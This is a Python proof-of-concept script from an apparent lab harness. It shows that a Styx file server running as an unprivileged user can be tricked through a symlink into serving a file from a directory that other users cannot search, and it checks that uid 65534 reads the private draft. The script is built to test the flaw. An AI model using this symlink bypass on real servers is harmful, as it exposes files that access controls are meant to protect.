"""Styx, a server of user S serving other users: a symlink inside the root leads past a directory
those users may not search.

When the server cannot work with a client's own credentials (it runs as S, not root), it checks
Plan 9 permissions itself: search on each directory walked, then the file's bits. But openat2
follows a symlink (beneath the root) with S's rights, and only the directory holding the link is
checked. S keeps D/private (0700) with a file of mode 0644 in it, and D/pub/latest, a symlink to
../private/draft.txt. The kernel refuses that path to any other user (private is not searchable);
through Styx, uid 65534 reads it.
"""

from __future__ import annotations

import os
import subprocess
import time

from lab import BIN, NOBODY, as_nobody, irmd, lab, main, spawn, stop

S = 1  # the serving user (daemon)
AS_S = ["setpriv", f"--reuid={S}", f"--regid={S}", "--clear-groups"]

READER = r"""
import sys
from apps.styx.client import Client
from apps.styx.transport import dial
for path in sys.argv[1:]:
    try:
        c = Client(dial("files"))
        print(path, "->", c.cat(path).decode().strip())
    except Exception as e:
        print(path, "->", type(e).__name__, e)
"""


def attack() -> bool:
    with lab("styxplan9") as d:
        # the lab directory stays root's (the IRMd serves only from one); the export is S's
        root = d / "export"
        (root / "pub").mkdir(parents=True)
        (root / "private").mkdir()
        (root / "pub" / "readme.txt").write_text("public\n")
        (root / "private" / "draft.txt").write_text("S's unpublished draft\n")
        os.symlink("../private/draft.txt", root / "pub" / "latest")
        for p in (root, root / "pub", root / "private", root / "pub" / "readme.txt", root / "private" / "draft.txt"):
            os.chown(p, S, S)
        os.lchown(root / "pub" / "latest", S, S)
        os.chmod(root / "private", 0o700)
        os.chmod(root / "private" / "draft.txt", 0o644)
        with irmd(d) as ir:
            serve = spawn([*AS_S, str(BIN / "styx"), "serve", "--root", str(root)], ir.env, d / "log")
            try:
                time.sleep(2)  # up and accepting; then root binds it to the name
                ir.irm_ok("bind", "process", str(serve.pid), "name", "files")
                ir.irm_ok("name", "register", "files", "layer", "local")
                return _read(ir, root)
            finally:
                stop(serve)


def _read(ir, root) -> bool:  # type: ignore[no-untyped-def]
    kernel = subprocess.run(
        ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "cat", str(root / "pub" / "latest")],
        capture_output=True,
        text=True,
    )
    print("uid 65534 through the kernel:", kernel.returncode, (kernel.stdout + kernel.stderr).strip())
    r = as_nobody(ir, READER, "/pub/readme.txt", "/private/draft.txt", "/pub/latest")
    print("uid 65534 through Styx:\n" + r.stdout.strip() + r.stderr.strip()[-300:])
    return kernel.returncode != 0 and "/pub/latest -> S's unpublished draft" in r.stdout


if __name__ == "__main__":
    main(attack, 150)
